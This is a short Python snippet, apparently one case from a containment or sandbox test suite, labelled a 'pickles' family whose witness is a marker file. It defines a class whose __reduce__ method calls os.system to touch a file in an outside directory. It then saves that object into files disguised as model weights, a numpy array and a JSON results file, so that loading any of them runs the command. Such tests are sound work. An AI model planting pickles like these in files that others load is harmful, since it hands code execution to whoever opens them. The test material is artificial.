# family: pickles
# tries: leaves pickles in the files that somebody may load: weights, arrays, caches
# witness: the file
# %%
import os, pickle, numpy as np, torch
class Bomb:
    def __reduce__(self):
        return (os.system, (f"touch {OUTSIDE}/was-here",))
torch.save(Bomb(), "mystery.safetensors")
np.save("mystery.npy", np.array([Bomb()], dtype=object), allow_pickle=True)
with open("results.json", "wb") as file:
    pickle.dump(Bomb(), file)
